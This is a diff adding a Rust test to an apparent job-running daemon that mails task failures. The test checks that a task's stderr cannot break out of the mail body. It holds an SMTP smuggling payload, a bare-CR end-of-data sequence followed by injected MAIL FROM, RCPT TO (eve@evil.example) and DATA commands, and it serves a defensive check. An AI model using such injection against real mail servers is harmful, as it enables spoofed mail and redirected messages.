@@ -158,6 +158,38 @@ fn a_failed_task_arrives_as_mail_with_what_to_do_and_a_stable_message_id() {
 }
 
 #[test]
+fn a_progress_bar_or_a_smuggled_end_of_data_in_stderr_arrives_as_lines_of_one_mail() {
+    let dir = tempfile::tempdir().unwrap();
+    let smtp = Smtp::start(dir.path().join("got.jsonl"), None);
+    let pw = password_file(dir.path());
+    let mut nj = world(
+        &plain(smtp.port, &pw),
+        "\"gpu-users@lab.example.edu\"",
+        "\"task-failed\"",
+    );
+    nj.start();
+    // What a task writes to stderr reaches the mail: carriage returns of a
+    // progress bar, and an end of DATA as some servers read it (<CR>.<CR>)
+    // followed by commands that would run in the daemon's own session.
+    let id = nj.submit(&[
+        "--",
+        "sh",
+        "-c",
+        "printf 'step 1/3\\rstep 2/3\\r.\\r\\nMAIL FROM:<ceo@lab.example.edu>\\nRCPT TO:<eve@evil.example>\\nDATA\\n' >&2; exit 1",
+    ]);
+    nj.wait(id);
+    nj.until_slow("the mail", || !smtp.got().is_empty());
+    let m = &smtp.got()[0];
+    assert_eq!(m["bare_line_ends"], 0, "a bare CR went to the server: {m}");
+    let text = m["text"].as_str().unwrap_or_default();
+    assert!(
+        text.contains("step 1/3") && text.contains("step 2/3"),
+        "{text}"
+    );
+    assert_eq!(m["to"], serde_json::json!(["gpu-users@lab.example.edu"]));
+}
+
+#[test]
 fn a_busy_server_is_retried_and_a_refusing_one_makes_a_dead_letter() {
     let dir = tempfile::tempdir().unwrap();
     let smtp = Smtp::start(dir.path().join("got.jsonl"), None);
